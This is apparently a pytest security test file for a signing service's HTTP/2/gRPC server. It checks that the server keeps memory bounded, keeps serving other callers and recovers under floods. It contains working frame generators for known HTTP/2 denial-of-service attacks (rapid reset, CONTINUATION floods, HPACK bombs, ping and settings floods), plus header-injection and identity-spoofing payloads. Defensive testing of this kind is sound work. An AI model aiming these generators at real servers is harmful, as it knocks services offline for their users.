# Copyright 2026 The signet Authors
# SPDX-License-Identifier: Apache-2.0
"""Callers with a valid identity who misuse HTTP/2: memory stays bounded, others are served, all recovers."""

import os
import random
import struct
import threading
import time

import pytest
from harness import http2
from harness.http2 import CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, RST_STREAM, SETTINGS
from harness.http2 import WINDOW_UPDATE, call_headers, frame, grpc_message, integer, literal
from harness.victim import Victim

SECONDS = float(os.environ.get("SIGNET_ATTACK_SECONDS", "2"))
# limits.max_resident_bytes is half of it: what a lane has read before its connection is closed still
# takes memory.
MOST_RESIDENT_MIB = 512
# How long to wait for it; the figures say how long it took.
RECOVERY_SECONDS = 30
# Connections of one attack.
ATTACKERS = 2


def rapid_reset(connection):
    """CVE-2023-44487: calls that are reset as soon as they are begun."""
    headers = call_headers()
    while True:
        block = b""
        for _ in range(200):
            stream = connection.next_stream()
            block += frame(HEADERS, END_HEADERS, stream, headers) + frame(RST_STREAM, 0, stream, b"\0\0\0\x08")
        yield block


def made_reset(connection):
    """CVE-2025-8671: frames that make the server reset its own streams."""
    headers = call_headers()
    while True:
        block = b""
        for _ in range(100):
            stream = connection.next_stream()
            block += frame(HEADERS, END_HEADERS, stream, headers)
            block += frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0x7FFFFFFF))
        yield block


def continuation_flood(connection):
    """CVE-2023-33953: a header block that never ends."""
    yield frame(HEADERS, 0, connection.next_stream(), call_headers())
    block = frame(CONTINUATION, 0, 1, b"".join(literal(f"x{i}", "y" * 50) for i in range(200)))
    while True:
        yield block


def empty_continuations(connection):
    yield frame(HEADERS, 0, connection.next_stream(), call_headers())
    block = frame(CONTINUATION, 0, 1) * 500
    while True:
        yield block


def hpack_giant_string(connection):
    """CVE-2023-33953: a header value announced with 1 GiB."""
    start = call_headers() + b"\x00" + integer(1, 7) + b"x" + integer(1 << 30, 7)
    yield frame(HEADERS, 0, connection.next_stream(), start)
    block = frame(CONTINUATION, 0, 1, b"y" * 16000)
    while True:
        yield block


def hpack_long_number(connection):
    """CVE-2023-33953: a length that is written with endless leading zeros."""
    yield frame(HEADERS, 0, connection.next_stream(), call_headers() + b"\x00\xff")
    block = frame(CONTINUATION, 0, 1, b"\x80" * 16000)
    while True:
        yield block


def hpack_table_churn(connection):
    """Entries of the dynamic table that push each other out."""
    headers = call_headers() + b"".join(b"\x40" + integer(1, 7) + b"x" + integer(100, 7) + b"y" * 100 for _ in range(90))
    while True:
        block = b""
        for _ in range(20):
            stream = connection.next_stream()
            block += frame(HEADERS, END_HEADERS, stream, headers) + frame(RST_STREAM, 0, stream, b"\0\0\0\x08")
        yield block


def hpack_references(connection):
    """A small block that names one large entry again and again."""
    entry = b"\x40" + integer(1, 7) + b"x" + integer(3000, 7) + b"y" * 3000
    headers = call_headers() + entry + b"\xbe" * 12000
    while True:
        stream = connection.next_stream()
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, headers)


def settings_flood(connection):
    """CVE-2019-9515."""
    while True:
        yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * 200


def ping_flood(connection):
    """CVE-2019-9512."""
    while True:
        yield frame(PING, 0, 0, b"12345678") * 200


def empty_data_flood(connection):
    """CVE-2019-9518."""
    stream = connection.next_stream()
    yield frame(HEADERS, END_HEADERS, stream, call_headers())
    while True:
        yield frame(DATA, 0, stream) * 500


def priority_flood(connection):
    """CVE-2019-9513."""
    while True:
        yield b"".join(frame(PRIORITY, 0, 2 * i + 1, struct.pack(">IB", 0, i % 256)) for i in range(300))


def window_updates(connection):
    stream = connection.next_stream()
    yield frame(HEADERS, END_HEADERS, stream, call_headers())
    while True:
        yield frame(WINDOW_UPDATE, 0, stream, b"\0\0\0\x01") * 500


def never_read(connection):
    """CVE-2019-9517: answers that nobody takes off the connection."""
    while True:
        yield b"".join(http2.call(connection.next_stream(), http2.SIGN_REQUEST) for _ in range(50))


def unfinished_calls(connection):
    """More calls than streams, none of which ends."""
    while True:
        yield b"".join(frame(HEADERS, END_HEADERS, connection.next_stream(), call_headers()) for _ in range(100))


def unfinished_messages(connection):
    """All streams hold the most that one message may, but for its last byte."""
    most = 2 * 1024 * 1024
    for _ in range(256):
        stream = connection.next_stream()
        yield frame(HEADERS, END_HEADERS, stream, call_headers())
        yield frame(DATA, 0, stream, b"\x00" + struct.pack(">I", most))
        for _ in range(most // 16000):
            yield frame(DATA, 0, stream, b"x" * 16000)
    while True:
        yield frame(PING, 0, 0, b"12345678")


def large_metadata(connection):
    headers = call_headers(extra=[(f"x-{i}", "v" * 1000) for i in range(16)])
    while True:
        yield b"".join(
            frame(HEADERS, END_HEADERS | END_STREAM, connection.next_stream(), headers[:16384]) for _ in range(10)
        )


def unknown_methods(connection):
    while True:
        yield b"".join(http2.call(connection.next_stream(), b"", method=f"Not{i}") for i in range(50))


ATTACKS = [
    rapid_reset,
    made_reset,
    continuation_flood,
    empty_continuations,
    hpack_giant_string,
    hpack_long_number,
    hpack_table_churn,
    hpack_references,
    settings_flood,
    ping_flood,
    empty_data_flood,
    priority_flood,
    window_updates,
    never_read,
    unfinished_calls,
    unfinished_messages,
    large_metadata,
    unknown_methods,
]


class Attacker:
    """Sends what an attack yields, over new connections as the server closes them, until told to stop."""

    def __init__(self, attack, connect):
        self._attack = attack
        self._connect = connect
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run)
        self.sent = 0
        self.closed = 0
        self._thread.start()

    def stop(self):
        self._stop.set()
        self._thread.join()

    def _run(self):
        while not self._stop.is_set():
            try:
                connection = self._connect()
            except (OSError, EOFError):
                self.closed += 1
                time.sleep(0.02)
                continue
            connection.sock.settimeout(0.5)
            try:
                for block in self._attack(connection):
                    if self._stop.is_set():
                        break
                    connection.send(block)
                    self.sent += len(block)
            except TimeoutError:
                # The server reads no more of it: as good as closed.
                self.closed += 1
            except (OSError, EOFError):
                self.closed += 1
            connection.close()


def served_again_after(connect):
    """Seconds until a new connection gets its signature."""
    start = time.monotonic()
    while time.monotonic() - start < RECOVERY_SECONDS:
        try:
            connection = connect()
            status, _ = connection.sign()
            connection.close()
            if status == 0:
                return time.monotonic() - start
        except (OSError, EOFError):
            pass
        time.sleep(0.02)
    pytest.fail("not served again")


@pytest.mark.parametrize("transport", ["unix", "tls"])
@pytest.mark.parametrize("attack", ATTACKS, ids=lambda attack: attack.__name__)
def test_a_flood_is_bounded_and_others_are_served(serve, insider, figures, attack, transport):
    # gRPC frees the half of a header block only once the time for handshakes has passed.
    server = serve(limits={"idle_timeout": "5s", "handshake_timeout": "2s"})
    connect = server.unix if transport == "unix" else lambda: server.tls(insider)
    before = server.resident_mib()
    peak = before
    with Victim(server.unix) as victim:
        attackers = [Attacker(attack, connect) for _ in range(ATTACKERS)]
        end = time.monotonic() + SECONDS
        while time.monotonic() < end and server.is_running():
            peak = max(peak, server.resident_mib())
            time.sleep(0.02)
        for attacker in attackers:
            attacker.stop()
        assert server.is_running(), server.log_tail()
        recovery = served_again_after(server.unix)
    figures.update(
        sent_mib=round(sum(a.sent for a in attackers) / 2**20, 1),
        closed=sum(a.closed for a in attackers),
        resident_before_mib=round(before, 1),
        resident_peak_mib=round(peak, 1),
        victim_calls=len(victim.latencies),
        victim_failures=victim.failures,
        victim_p50_ms=victim.percentile_ms(50),
        victim_p99_ms=victim.percentile_ms(99),
        recovery_ms=round(1000 * recovery, 1),
    )
    assert peak < MOST_RESIDENT_MIB
    assert victim.latencies, "nobody else was served during the attack"


def test_frames_of_noise_end_the_connection_and_nothing_else(serve, insider, figures):
    server = serve()
    rng = random.Random(int(os.environ.get("SIGNET_ATTACK_SEED", "1")))
    cases = int(300 * max(1, SECONDS / 2))
    for _ in range(cases):
        connection = server.tls(insider, timeout=5) if rng.random() < 0.2 else server.unix(timeout=5)
        try:
            for _ in range(rng.randrange(1, 20)):
                payload = rng.randbytes(rng.choice([0, 1, 4, 5, 6, 8, 100, 16384]))
                if rng.random() < 0.3:
                    payload = call_headers()[: rng.randrange(200)] + payload
                connection.send(frame(rng.randrange(12), rng.randrange(256), rng.choice([0, 1, 2, 3, 0x7FFFFFFF]), payload))
        except OSError:
            pass
        connection.close()
    figures["cases"] = cases
    good = server.unix()
    assert good.sign()[0] == 0
    good.close()


@pytest.mark.parametrize(
    "extra",
    [
        [("te", "x")],
        [("grpc-timeout", "99999999999999999H")],
        [("grpc-timeout", "-1S")],
        [("grpc-encoding", "gzip")],
        [("grpc-encoding", "x" * 9000)],
        [("grpclb_client_stats", "x" * 9000)],
        [("grpc-tags-bin", "!!!!")],
        [("grpc-trace-bin", "AAAA")],
        [("x-bin", "=")],
        [("Upper", "case")],
        [("x\r\ny", "z")],
        [("x", "a\r\nb")],
        [("x", "a\0b")],
        [("", "empty")],
        [(":path", "/again")],
        [(":unknown", "pseudo")],
        [("content-length", "18446744073709551616")],
        [("connection", "keep-alive")],
        [("host", "other")],
        [("grpc-status", "0")],
        [("user-agent", "x" * 9000)],
        [("grpc-retry-pushback-ms", "-9223372036854775808")],
        [("grpc-previous-rpc-attempts", "4294967296")],
        [("lb-cost-bin", "AAAA")],
    ],
    ids=lambda extra: f"{extra[0][0]!r}:{extra[0][1][:12]!r}".replace("\\", "_"),
)
def test_odd_headers_end_one_call_at_most_one_connection(serve, insider, extra):
    """CVE-2023-1428 and its kin aborted the process."""
    server = serve()
    connection = server.tls(insider, timeout=5)
    stream = connection.next_stream()
    try:
        connection.send(http2.call(stream, http2.SIGN_REQUEST, extra=extra))
        connection.finish(stream)
    except (OSError, EOFError, ValueError, TypeError):
        pass
    connection.close()
    good = server.unix()
    assert good.sign()[0] == 0
    good.close()


def test_metadata_cannot_name_the_caller(serve, authority):
    server = serve()
    nobody = authority.issue("nobody", "URI:spiffe://elsewhere/nobody")
    for name in ("signet_local_user", "x-forwarded-client-cert", "x509_subject_alternative_name", "peer_spiffe_id"):
        connection = server.tls(nobody)
        status, answer = connection.sign(extra=[(name, "spiffe://attack/insider"), (name, "URI=spiffe://attack/insider")])
        assert (status, answer) == (7, b"")
        connection.close()
